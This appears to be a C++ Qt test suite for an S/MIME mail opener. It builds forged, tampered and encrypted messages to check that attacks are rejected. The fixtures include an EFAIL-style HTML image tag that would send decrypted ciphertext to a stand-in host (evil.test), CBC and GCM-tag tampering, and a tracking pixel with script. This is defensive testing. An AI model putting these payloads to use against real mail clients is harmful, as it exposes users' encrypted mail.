// SPDX-License-Identifier: GPL-3.0-or-later
// Received messages, good ones and attacks, made with OpenSSL and with our own engine.
#include "receive/MessageOpener.h"

#include "base/Text.h"
#include "crypto/SmimeEngine.h"
#include "gnupg/StoreFixture.h"
#include "mail/MimeBuilder.h"

#include <QTest>
#include <algorithm>
#include <openssl/cms.h>
#include <set>

using namespace sealpost;
using namespace sealpost::crypto;
using namespace sealpost::receive;
using namespace sealpost::test;

namespace {

const std::string kSecret = "the witness lives at 4 Larch Row";
const std::string kText = "Content-Type: text/plain; charset=utf-8\r\n\r\n" + kSecret + "\r\n";
const std::string kAlice = "alice@example.test";
const std::string kBob = "bob@example.test";      // who reads
const std::string kMallory = "mallory@evil.test"; // has a good certificate, for his own address

//! Who can sign and read here; made once.
class People {
public:
    People() : fixture(mailPki()) {
        fixture.trust(mailPki());
        add(kAlice, {.address = kAlice, .key = MailKey::Rsa2048});
        add(kBob, {.address = kBob, .key = MailKey::Rsa2048});
        add(kMallory, {.address = kMallory});
        add("stranger", {.address = kAlice, .issuer = MailIssuer::UnknownRoot});
        add("expired",
            {.address = kAlice, .from = std::chrono::days(-20), .until = std::chrono::days(-2)});
        add("server", {.address = kAlice, .extendedUsage = "serverAuth"});
        const auto done = fixture.store->importPkcs12(
            mailPki().pkcs12(of(kBob), "secret"), SecretBytes(std::string_view("secret")), soon());
        if (!done) {
            qFatal("import: %s", done.error().code.c_str());
        }
    }
    const MailIdentity &of(const std::string &name) const { return m_people.at(name); }

    OpenedMessage open(const std::string &bytes) const {
        const MessageOpener opener(newCmsReader(fixture.store));
        auto opened = opener.open(bytes, soon(), {});
        if (!opened) {
            qFatal("open: %s", opened.error().code.c_str());
        }
        return std::move(*opened);
    }

    StoreFixture fixture;

private:
    void add(const std::string &name, MailPerson person) {
        person.name = name;
        m_people.emplace(name, mailPki().issue(person));
    }
    std::map<std::string, MailIdentity> m_people;
};

const People &people() {
    static const People kPeople;
    return kPeople;
}

std::string der(CMS_ContentInfo *message) {
    const BioPtr out(BIO_new(BIO_s_mem()));
    if (message == nullptr || i2d_CMS_bio(out.get(), message) != 1) {
        qFatal("cms: %s", takeOpenSslError().c_str());
    }
    return collected(out.get());
}

//! SignedData by the bare key, with whatever flags and digest.
std::string signedDer(const std::string &who, std::string_view content, unsigned flags,
                      const EVP_MD *digest = EVP_sha256()) {
    const auto &person = people().of(who);
    const auto reader = readerOf(content);
    const CertificateStackPtr chain(sk_X509_new_null());
    X509_up_ref(mailPki().intermediate.certificate.get());
    sk_X509_push(chain.get(), mailPki().intermediate.certificate.get());
    const CmsPtr message(
        CMS_sign(nullptr, nullptr, chain.get(), nullptr, CMS_PARTIAL | CMS_BINARY | flags));
    if (CMS_add1_signer(message.get(), person.certificate.get(), person.key.get(), digest,
                        flags | CMS_BINARY) == nullptr ||
        CMS_final(message.get(), reader.get(), nullptr, CMS_BINARY | flags) != 1) {
        qFatal("sign: %s", takeOpenSslError().c_str());
    }
    return der(message.get());
}

std::string base64(const std::string &bytes) {
    base::StringSink out;
    mail::Base64Sink sink(out);
    if (!sink.write(bytes) || !sink.finish()) {
        qFatal("base64");
    }
    return out.take();
}

std::string part(mail::Pkcs7Kind kind, const std::string &cms) {
    return mail::pkcs7MimeHeader(kind) + base64(cms);
}

//! An entity, signed: multipart/signed.
std::string detached(const std::string &who, const std::string &entity, unsigned flags = 0,
                     const EVP_MD *digest = EVP_sha256()) {
    const auto frame =
        mail::multipartSignedFrame(signedDer(who, entity, CMS_DETACHED | flags, digest),
                                   SmimeDigest::Sha256, mail::newBoundary());
    return frame.before + entity + frame.after;
}

std::string opaque(const std::string &who, const std::string &entity) {
    return part(mail::Pkcs7Kind::SignedData, signedDer(who, entity, 0));
}

std::string envelopedDer(const std::string &entity, const EVP_CIPHER *cipher,
                         const std::string &to = kBob) {
    const CertificateStackPtr recipients(sk_X509_new_null());
    X509_up_ref(people().of(to).certificate.get());
    sk_X509_push(recipients.get(), people().of(to).certificate.get());
    const auto reader = readerOf(entity);
    const CmsPtr message(CMS_encrypt(recipients.get(), reader.get(), cipher, CMS_BINARY));
    return der(message.get());
}

std::string cbc(const std::string &entity, const std::string &to = kBob) {
    return part(mail::Pkcs7Kind::EnvelopedData, envelopedDer(entity, EVP_aes_256_cbc(), to));
}

std::string gcm(const std::string &entity) {
    return part(mail::Pkcs7Kind::AuthEnvelopedData, envelopedDer(entity, EVP_aes_256_gcm()));
}

std::string mailFrom(const std::string &from, const std::string &entity,
                     const std::string &subject = "outer") {
    return "From: " + from + "\r\nTo: " + kBob + "\r\nSubject: " + subject +
           "\r\nDate: Mon, 02 Mar 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n" + entity;
}

//! With protected header fields in front.
std::string withFields(const std::string &entity, const std::string &hp, const std::string &from) {
    auto changed = entity;
    changed.insert(changed.find("\r\n"), "; hp=" + hp);
    std::string fields = "From: " + from + "\r\nTo: " + kBob +
                         "\r\nSubject: inner\r\nDate: Mon, 02 Mar 2026 09:00:00 +0000\r\n";
    if (hp == "cipher") {
        fields += "HP-Outer: From: " + from + "\r\nHP-Outer: To: " + kBob +
                  "\r\nHP-Outer: Subject: [...]\r\n"
                  "HP-Outer: Date: Mon, 02 Mar 2026 09:00:00 +0000\r\n";
    }
    return fields + changed;
}

bool has(const OpenedMessage &message, const std::string &id) {
    return std::any_of(message.notes.begin(), message.notes.end(),
                       [&](const Note &note) { return note.id == id; });
}

//! Everything that a person could get to see or to save.
std::string everything(const OpenedMessage &message) {
    auto all = message.text.value_or("") + message.headers.subject + message.headers.from.name;
    for (const auto &attachment : message.attachments) {
        all += attachment.content + attachment.fileName;
    }
    return all;
}

bool showsSecret(const OpenedMessage &message) {
    return everything(message).find(kSecret) != std::string::npos;
}

QString verdict(const OpenedMessage &message) {
    const auto word = receive::toString(message.sender);
    return QString::fromLatin1(word.data(), static_cast<qsizetype>(word.size()));
}

std::string changedAt(std::string bytes, std::size_t fromEnd) {
    bytes.at(bytes.size() - fromEnd) ^= 0x01;
    return bytes;
}

} // namespace

class TstMessageOpener : public QObject {
    Q_OBJECT
private slots:
    void goodMessages_data();
    void goodMessages();
    void filesAlone();
    void lineEndsOfASavedFile();
    void protectedHeaderFields();
    void legacyDisplayIsLeftOut();
    void fromIsBoundToTheSigner_data();
    void fromIsBoundToTheSigner();
    void signersThatCantBeReliedOn_data();
    void signersThatCantBeReliedOn();
    void brokenSignaturesShowNothing_data();
    void brokenSignaturesShowNothing();
    void aGoodSignatureBringsCertificates();
    void rfc3274CompressedData();
    void unauthenticatedTextIsNotShown();
    void efailDirectExfiltration();
    void efailGadgets();
    void partsOfAMessageLendNoName();
    void covertContentInsideOthers();
    void wrappingAloneIsSigned();
    void htmlIsShownAsText();
    void notForUs();
    void deepWrapping();
    void whatIsNoMessage();
};

void TstMessageOpener::goodMessages_data() {
    QTest::addColumn<QByteArray>("entity");
    QTest::addColumn<bool>("encrypted");
    QTest::addColumn<QString>("sender");
    const auto row = [](const char *name, const std::string &entity, bool encrypted,
                        const char *sender) {
        QTest::newRow(name) << QByteArray::fromStdString(entity) << encrypted
                            << QString::fromLatin1(sender);
    };
    row("plain", kText, false, "unsigned");
    row("rfc8551-3.5.3-multipart-signed", detached(kAlice, kText), false, "verified");
    row("rfc8551-3.5.2-signed-data", opaque(kAlice, kText), false, "verified");
    row("rfc8551-3.7-signed-and-enveloped", cbc(detached(kAlice, kText)), true, "verified");
    row("opaque-and-enveloped", cbc(opaque(kAlice, kText)), true, "verified");
    row("rfc5083-auth-enveloped", gcm(kText), true, "unsigned");
    row("rfc5083-signed", gcm(detached(kAlice, kText)), true, "verified");
    row("rfc2634-triple-wrapped", detached(kAlice, cbc(detached(kAlice, kText))), true, "verified");
    row("opaque-triple-wrapped", opaque(kAlice, gcm(opaque(kAlice, kText))), true, "verified");
    row("encrypted-twice", cbc(gcm(detached(kAlice, kText))), true, "verified");
}

void TstMessageOpener::goodMessages() {
    QFETCH(QByteArray, entity);
    QFETCH(bool, encrypted);
    QFETCH(QString, sender);
    const auto opened = people().open(mailFrom(kAlice, entity.toStdString()));
    QVERIFY(opened.text);
    QCOMPARE(*opened.text, kSecret + "\r\n");
    QCOMPARE(opened.encrypted, encrypted);
    QCOMPARE(verdict(opened), sender);
    QVERIFY(opened.attachments.empty());
    QCOMPARE(opened.headers.from.address, kAlice);
}

void TstMessageOpener::filesAlone() {
    const auto inner = withFields(kText, "clear", kAlice);
    const auto p7m = people().open(signedDer(kAlice, inner, 0));
    QVERIFY(showsSecret(p7m));
    QCOMPARE(verdict(p7m), QStringLiteral("verified")); // the signed fields name the sender
    const auto nameless = people().open(signedDer(kAlice, kText, 0));
    QCOMPARE(verdict(nameless), QStringLiteral("unproven"));
    QVERIFY(has(nameless, "open.no-sender"));
    const auto pem = "-----BEGIN PKCS7-----\n" + base64(envelopedDer(kText, EVP_aes_256_gcm())) +
                     "-----END PKCS7-----\n";
    QVERIFY(showsSecret(people().open(pem)));
    const auto p7s = people().open(signedDer(kAlice, kText, CMS_DETACHED));
    QVERIFY(!p7s.shown() && has(p7s, "open.signature-alone"));
}

void TstMessageOpener::lineEndsOfASavedFile() {
    auto message = mailFrom(kAlice, detached(kAlice, kText));
    std::erase(message, '\r');
    QCOMPARE(verdict(people().open(message)), QStringLiteral("verified"));
}

void TstMessageOpener::protectedHeaderFields() {
    const auto inner = withFields(kText, "cipher", "Alice <" + kAlice + ">");
    const auto good =
        people().open(mailFrom("Alice <" + kAlice + ">", cbc(detached(kAlice, inner)), "[...]"));
    QCOMPARE(good.headers.subject, std::string("inner"));
    QVERIFY(good.headers.isProtected && !has(good, "open.outer-differs"));
    QCOMPARE(verdict(good), QStringLiteral("verified"));

    const auto changed =
        people().open(mailFrom("Alice <" + kAlice + ">", cbc(detached(kAlice, inner)), "Pay now"));
    QCOMPARE(changed.headers.subject, std::string("inner"));
    QVERIFY(has(changed, "open.outer-differs"));

    // Signed by Alice, replayed under Mallory's name: what she wrote is shown.
    const auto replayed = people().open(
        mailFrom(kMallory, detached(kAlice, withFields(kText, "clear", kAlice)), "inner"));
    QCOMPARE(replayed.headers.from.address, kAlice);
    QVERIFY(has(replayed, "open.outer-differs"));

    // Fields inside that nobody protects are nobody's word.
    const auto bare = people().open(mailFrom(kMallory, withFields(kText, "cipher", kAlice)));
    QVERIFY(!bare.headers.isProtected);
    QCOMPARE(verdict(bare), QStringLiteral("unsigned"));

    const auto without = people().open(mailFrom(kAlice, detached(kAlice, kText)));
    QVERIFY(has(without, "open.headers-unprotected"));
}

void TstMessageOpener::legacyDisplayIsLeftOut() {
    const std::string entity =
        "Content-Type: text/plain; charset=utf-8; hp-legacy-display=1\r\n\r\n"
        "Subject: inner\r\n\r\nbody\r\n";
    const auto opened = people().open(
        mailFrom(kAlice, gcm(detached(kAlice, withFields(entity, "cipher", kAlice))), "[...]"));
    QCOMPARE(opened.text.value_or(""), std::string("body\r\n"));
}

void TstMessageOpener::fromIsBoundToTheSigner_data() {
    QTest::addColumn<QByteArray>("from");
    QTest::addColumn<QString>("note");
    const auto row = [](const char *name, const std::string &from, const char *note) {
        QTest::newRow(name) << QByteArray::fromStdString(from) << QString::fromLatin1(note);
    };
    // Mallory signs all of them.
    row("other-address", kAlice, "open.signer-not-sender");
    row("name-is-the-signer", "\"" + kMallory + "\" <" + kAlice + ">", "open.signer-not-sender");
    row("comment", kAlice + " (" + kMallory + ")", "open.signer-not-sender");
    row("two-mailboxes", kAlice + ", " + kMallory, "open.several-senders");
    row("two-mailboxes-reversed", kMallory + ", " + kAlice, "open.several-senders");
    row("group", "x: " + kAlice + ", " + kMallory + ";", "open.several-senders");
    row("two-fields", kAlice + "\r\nFrom: " + kMallory, "open.several-senders");
    row("two-fields-reversed", kMallory + "\r\nFrom: " + kAlice, "open.several-senders");
    row("sender-field", kAlice + "\r\nSender: " + kMallory, "open.signer-not-sender");
    row("look-alike-subdomain", "mallory@evil.test.example.test", "open.signer-not-sender");
    row("no-address", "Alice", "open.no-sender");
}

void TstMessageOpener::fromIsBoundToTheSigner() {
    QFETCH(QByteArray, from);
    QFETCH(QString, note);
    const auto opened = people().open(mailFrom(from.toStdString(), detached(kMallory, kText)));
    QCOMPARE(verdict(opened), QStringLiteral("unproven"));
    QVERIFY2(has(opened, note.toStdString()), note.toLatin1().constData());
    // And his own name counts, whatever stands beside it.
    const auto own =
        people().open(mailFrom("\"" + kAlice + "\" <" + kMallory + ">", detached(kMallory, kText)));
    QCOMPARE(verdict(own), QStringLiteral("verified"));
    QVERIFY(has(own, "open.name-looks-like-address") && own.headers.from.name.empty());
}

void TstMessageOpener::signersThatCantBeReliedOn_data() {
    QTest::addColumn<QByteArray>("who");
    QTest::addColumn<QString>("state");
    QTest::newRow("unknown-root") << QByteArray("stranger") << QStringLiteral("untrusted");
    QTest::newRow("expired") << QByteArray("expired") << QStringLiteral("expired");
    QTest::newRow("rfc8550-4.4.4-server") << QByteArray("server") << QStringLiteral("wrong-usage");
}

void TstMessageOpener::signersThatCantBeReliedOn() {
    QFETCH(QByteArray, who);
    QFETCH(QString, state);
    const auto opened = people().open(mailFrom(kAlice, detached(who.toStdString(), kText)));
    QCOMPARE(verdict(opened), QStringLiteral("unproven"));
    const auto note = std::find_if(opened.notes.begin(), opened.notes.end(),
                                   [](const Note &one) { return one.id == "open.signer-state"; });
    QVERIFY(note != opened.notes.end());
    QCOMPARE(QString::fromStdString(note->facts.at("state")), state);
}

void TstMessageOpener::brokenSignaturesShowNothing_data() {
    QTest::addColumn<QByteArray>("entity");
    QTest::addColumn<QString>("note");
    const auto row = [](const char *name, const std::string &entity, const char *note) {
        QTest::newRow(name) << QByteArray::fromStdString(entity) << QString::fromLatin1(note);
    };
    auto changed = detached(kAlice, kText);
    changed.replace(changed.find("4 Larch"), 1, "5");
    row("content-changed", changed, "open.signature-changed");
    row("signature-changed",
        part(mail::Pkcs7Kind::SignedData, changedAt(signedDer(kAlice, kText, 0), 5)),
        "open.signature-changed");
    row("sha1", detached(kAlice, kText, 0, EVP_sha1()), "open.signature-weak");
    row("md5", detached(kAlice, kText, 0, EVP_md5()), "open.signature-weak");
    row("no-signed-attributes", detached(kAlice, kText, CMS_NOATTR), "open.signature-bare");
    row("no-certificate", detached(kAlice, kText, CMS_NOCERTS), "open.signature-unreadable");

    // A whole message in the "detached" signature: it verifies itself, not what is shown.
    const auto frame = mail::multipartSignedFrame(signedDer(kAlice, "other content", 0),
                                                  SmimeDigest::Sha256, "=_b");
    row("signature-brings-its-content", frame.before + kText + frame.after, "open.structure");
    const auto good = detached(kAlice, kText);
    const auto boundary = good.substr(good.find("=_"), 34);
    auto three = good;
    three.insert(three.find("--" + boundary + "\r\n"),
                 "--" + boundary + "\r\nContent-Type: text/plain\r\n\r\nforged\r\n");
    row("rfc1847-2.1-three-parts", three, "open.structure");
    auto unended = good;
    unended.resize(unended.size() - 4);
    row("rfc2046-5.1.1-no-last-delimiter", unended, "open.structure");
    auto other = good;
    other.replace(other.find("application/pkcs7-signature; name"), 27,
                  "application/pgp-signature  ");
    row("other-second-part", other, "open.structure");
    row("garbage", part(mail::Pkcs7Kind::SignedData, "garbage"), "open.damaged");
    row("empty", part(mail::Pkcs7Kind::SignedData, ""), "open.damaged");
    const auto whole = signedDer(kAlice, kText, 0);
    row("cut-off", part(mail::Pkcs7Kind::SignedData, whole.substr(0, whole.size() / 2)),
        "open.damaged");
    const auto text = readerOf(kText);
    const CmsPtr data(CMS_data_create(text.get(), CMS_BINARY));
    row("of a kind that protects nothing", part(mail::Pkcs7Kind::SignedData, der(data.get())),
        "open.kind-unknown");
    // Certificates alone (RFC 8551 §3.9) sign nothing.
    const CmsPtr only(CMS_sign(nullptr, nullptr, nullptr, nullptr, CMS_PARTIAL | CMS_BINARY));
    CMS_add1_cert(only.get(), people().of(kAlice).certificate.get());
    const auto reader = readerOf(kText);
    CMS_final(only.get(), reader.get(), nullptr, CMS_BINARY);
    row("nobody-signed", part(mail::Pkcs7Kind::SignedData, der(only.get())),
        "open.signature-unreadable");
}

void TstMessageOpener::brokenSignaturesShowNothing() {
    QFETCH(QByteArray, entity);
    QFETCH(QString, note);
    const auto opened = people().open(mailFrom(kAlice, entity.toStdString()));
    QVERIFY(!opened.shown());
    QVERIFY(!showsSecret(opened));
    QVERIFY(opened.sender != SenderVerdict::Verified);
    QVERIFY2(has(opened, note.toStdString()),
             opened.notes.empty() ? "no note" : opened.notes.front().id.c_str());
}

//! What a person keeps who wants to write to the signer.
void TstMessageOpener::aGoodSignatureBringsCertificates() {
    const auto opened = people().open(mailFrom(kAlice, detached(kAlice, kText)));
    const auto &signature = opened.layers.front().signatures.front();
    QVERIFY(!signature.signerKnown);
    const auto brought = signersCertificates(opened);
    QVERIFY(brought.find(people().of(kAlice).certificatePem()) != std::string::npos);
    QVERIFY(brought.find(mailPki().intermediate.certificatePem()) != std::string::npos);
    QVERIFY(brought.find(mailPki().root.certificatePem()) == std::string::npos);
    // OpenSSL's own list of what it reads has no GCM.
    QVERIFY(signature.reads && !signature.reads->aes256Gcm);

    auto changed = mailFrom(kAlice, detached(kAlice, kText));
    changed.replace(changed.find("Larch"), 5, "Birch");
    QVERIFY(signersCertificates(people().open(changed)).empty());
}

namespace {

//! In DER: a tag, its length, its content.
std::string tlv(unsigned char tag, const std::string &content) {
    const auto size = content.size();
    std::string out(1, static_cast<char>(tag));
    if (size >= 0x80) {
        out += static_cast<char>(0x84);
        for (const int shift : {24, 16, 8}) {
            out += static_cast<char>(size >> shift);
        }
    }
    return out + static_cast<char>(size) + content;
}

//! CompressedData (RFC 3274 §1.1) by hand: Debian's OpenSSL is built without.
std::string compressed(const std::string &content) {
    const auto zlib =
        qCompress(QByteArray::fromStdString(content)).mid(4).toStdString(); // behind Qt's own size
    const std::string type("\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09", 13);
    const std::string algorithm("\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x03\x08", 13);
    const std::string data("\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01", 11);
    const auto inner = tlv(0x30, std::string("\x02\x01\x00", 3) + tlv(0x30, algorithm) +
                                     tlv(0x30, data + tlv(0xa0, tlv(0x04, zlib))));
    return "Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\n"
           "Content-Transfer-Encoding: base64\r\n\r\n" +
           base64(tlv(0x30, type + tlv(0xa0, inner)));
}

} // namespace

void TstMessageOpener::rfc3274CompressedData() {
    // Under a signature, around one, and inside an encryption.
    for (const auto &entity :
         {detached(kAlice, compressed(kText)), compressed(detached(kAlice, kText)),
          cbc(detached(kAlice, compressed(kText)))}) {
        const auto opened = people().open(mailFrom(kAlice, entity));
        QVERIFY2(showsSecret(opened), opened.notes.empty() ? "" : opened.notes.front().id.c_str());
        QCOMPARE(verdict(opened), QStringLiteral("verified"));
    }
    // It authenticates nothing.
    QCOMPARE(verdict(people().open(mailFrom(kAlice, compressed(kText)))),
             QStringLiteral("unsigned"));
    QVERIFY(!people().open(mailFrom(kAlice, cbc(compressed(kText)))).shown());
    // Bombs, and what is no zlib.
    const auto bomb = people().open(
        mailFrom(kAlice, compressed(kText + std::string(std::size_t{64} * 1024 * 1024, ' '))));
    QVERIFY(!bomb.shown() && has(bomb, "open.too-large"));
    const auto nested = people().open(
        mailFrom(kAlice, compressed(compressed(compressed(detached(kAlice, kText))))));
    QVERIFY(!nested.shown() && has(nested, "open.too-deep"));
    auto broken = compressed(kText);
    broken.resize(broken.size() - 24);
    QVERIFY(!people().open(mailFrom(kAlice, broken)).shown());
}

void TstMessageOpener::unauthenticatedTextIsNotShown() {
    const auto opened = people().open(mailFrom(kAlice, cbc(kText)));
    QVERIFY(!opened.shown() && !showsSecret(opened));
    QVERIFY(has(opened, "open.unauthenticated"));
    // A signature around the ciphertext does not help: anybody can put his own there.
    const auto around = people().open(mailFrom(kMallory, detached(kMallory, cbc(kText))));
    QVERIFY(!around.shown() && !showsSecret(around));
    QVERIFY(has(around, "open.unauthenticated"));
}

//! EFAIL (Poddebniak et al. 2018), direct: the ciphertext between halves of an HTML image.
void TstMessageOpener::efailDirectExfiltration() {
    for (const auto &sealed : {cbc(kText), gcm(kText), cbc(detached(kAlice, kText))}) {
        const std::string entity = "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                                   "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/"
                                   "\r\n--b\r\n" +
                                   sealed +
                                   "\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
        const auto opened = people().open(mailFrom(kMallory, entity));
        QVERIFY(!showsSecret(opened));
        QVERIFY(has(opened, "open.partly-protected"));
        QVERIFY(!opened.encrypted);
        const auto wrapped = people().open(mailFrom(kMallory, detached(kMallory, entity)));
        QVERIFY(!showsSecret(wrapped));
    }
}

//! The same, with changed blocks: no bit of the ciphertext can change and its text still be shown.
void TstMessageOpener::efailGadgets() {
    const auto plain = envelopedDer(kText, EVP_aes_256_cbc());
    const auto signedInside = envelopedDer(detached(kAlice, kText), EVP_aes_256_cbc());
    const auto authenticated = envelopedDer(kText, EVP_aes_256_gcm());
    for (const std::size_t fromEnd : {20U, 33U, 40U, 70U}) {
        const auto one = people().open(
            mailFrom(kAlice, part(mail::Pkcs7Kind::EnvelopedData, changedAt(plain, fromEnd))));
        QVERIFY(!one.shown());
        const auto two = people().open(mailFrom(
            kAlice, part(mail::Pkcs7Kind::EnvelopedData, changedAt(signedInside, fromEnd + 3000))));
        QVERIFY(!two.shown() && two.sender != SenderVerdict::Verified);
        const auto three = people().open(mailFrom(
            kAlice, part(mail::Pkcs7Kind::AuthEnvelopedData, changedAt(authenticated, fromEnd))));
        QVERIFY(!three.shown() && has(three, "open.decrypt-failed"));
    }
    // A tag that was cut to one byte is guessed in 256 tries.
    auto cut = authenticated;
    const auto tag = cut.rfind(std::string("\x04\x10", 2));
    QVERIFY(tag != std::string::npos && tag + 18 == cut.size());
    cut.resize(tag + 3);
    cut[tag + 1] = 1;
    const auto fix = [&cut](std::size_t at) { // three lengths of two bytes each
        const auto length = static_cast<unsigned char>(cut[at]) * 256U +
                            static_cast<unsigned char>(cut[at + 1]) - 15U;
        cut[at] = static_cast<char>(length / 256U);
        cut[at + 1] = static_cast<char>(length % 256U);
    };
    const auto outer = std::size_t{2};
    const auto tagged = cut.find(std::string("\xa0\x82", 2)) + 2;
    fix(outer);
    fix(tagged);
    fix(tagged + 4);
    const auto short_ =
        people().open(mailFrom(kAlice, part(mail::Pkcs7Kind::AuthEnvelopedData, cut)));
    QVERIFY(!short_.shown());
    QVERIFY2(has(short_, "open.weak-tag"), short_.notes.front().id.c_str());
}

//! "Johnny, you are fired!" (Müller et al. 2019): a signed part beside, or in front of, another.
void TstMessageOpener::partsOfAMessageLendNoName() {
    const std::string forged = "Content-Type: text/plain\r\n\r\npay me\r\n";
    const auto mixed = [](const std::string &a, const std::string &b) {
        return "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + a + "\r\n--m\r\n" + b +
               "\r\n--m--\r\n";
    };
    for (const auto &entity :
         {mixed(forged, detached(kAlice, kText)), mixed(detached(kAlice, kText), forged),
          mixed(forged, opaque(kAlice, kText))}) {
        const auto opened = people().open(mailFrom(kAlice, entity));
        QCOMPARE(verdict(opened), QStringLiteral("unsigned"));
        QVERIFY(has(opened, "open.partly-protected"));
        QVERIFY(opened.layers.empty());
    }
    // In front of the first delimiter, and behind the last.
    const auto good = detached(kAlice, kText);
    auto before = good;
    before.insert(before.find("This is a signed"), "pay me\r\n");
    const auto around = people().open(mailFrom(kAlice, before + "pay me\r\n"));
    QCOMPARE(verdict(around), QStringLiteral("verified"));
    QVERIFY(everything(around).find("pay me") == std::string::npos);
    // Signed by two, one of whom is not the sender.
    const auto &alice = people().of(kAlice);
    const auto &mallory = people().of(kMallory);
    const auto reader = readerOf(kText);
    const CmsPtr both(CMS_sign(nullptr, nullptr, nullptr, nullptr, CMS_PARTIAL | CMS_BINARY));
    for (const auto *person : {&alice, &mallory}) {
        CMS_add1_signer(both.get(), person->certificate.get(), person->key.get(), EVP_sha256(),
                        CMS_BINARY);
    }
    CMS_add1_cert(both.get(), mailPki().intermediate.certificate.get());
    CMS_final(both.get(), reader.get(), nullptr, CMS_BINARY);
    const auto two =
        people().open(mailFrom(kAlice, part(mail::Pkcs7Kind::SignedData, der(both.get()))));
    QCOMPARE(verdict(two), QStringLiteral("unproven"));
}

//! Covert content: somebody else's ciphertext in a message that asks for an answer.
void TstMessageOpener::covertContentInsideOthers() {
    const auto inner = mailFrom(kAlice, gcm(kText));
    const std::string entity = "Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n"
                               "Content-Type: text/plain\r\n\r\nsee below\r\n--c\r\n"
                               "Content-Type: message/rfc822\r\n\r\n" +
                               inner + "\r\n--c--\r\n";
    for (const auto &message : {entity, detached(kMallory, entity), gcm(entity)}) {
        const auto opened = people().open(mailFrom(kMallory, message));
        QVERIFY(opened.shown() && !showsSecret(opened));
        QCOMPARE(*opened.text, std::string("see below"));
    }
}

void TstMessageOpener::wrappingAloneIsSigned() {
    const auto opened = people().open(mailFrom(kMallory, detached(kMallory, gcm(kText))));
    QVERIFY(opened.shown());
    QCOMPARE(verdict(opened), QStringLiteral("unproven"));
    QVERIFY(has(opened, "open.signed-outside"));
}

void TstMessageOpener::htmlIsShownAsText() {
    const std::string html =
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        "<html><head><title>t</title></head><style>p{display:none}</style><p>Pay &pound;5</p>"
        "<div style=\"display:none\">hidden &#x202E;no</div>"
        "<img src=\"http://evil.test/pixel\"><script>alert(1)</script>"
        "<a href=\"http://evil.test/\">bank</a> &lt;b&gt;";
    const auto opened = people().open(mailFrom(kAlice, detached(kAlice, html)));
    QCOMPARE(*opened.text, std::string("Pay £5\nhidden �no\nbank <http://evil.test/> <b>"));
    QVERIFY(has(opened, "open.html-only"));
}

void TstMessageOpener::notForUs() {
    const auto opened = people().open(mailFrom(kAlice, cbc(detached(kAlice, kText), kAlice)));
    QVERIFY(!opened.shown() && has(opened, "open.not-for-you"));
}

void TstMessageOpener::deepWrapping() {
    auto entity = kText;
    for (int i = 0; i < 9; ++i) {
        entity = gcm(entity);
    }
    const auto opened = people().open(mailFrom(kAlice, entity));
    QVERIFY(!opened.shown() && has(opened, "open.too-deep"));
}

void TstMessageOpener::whatIsNoMessage() {
    const MessageOpener opener(newCmsReader(people().fixture.store));
    for (const std::string bytes : {"", "no message", "\r\n\r\n", "a b: c\r\n\r\n"}) {
        const auto opened = opener.open(bytes, soon(), {});
        QVERIFY(!opened);
        QCOMPARE(opened.error().code, std::string("mime.not-a-message"));
    }
}

QTEST_GUILESS_MAIN(TstMessageOpener)
#include "tst_MessageOpener.moc"
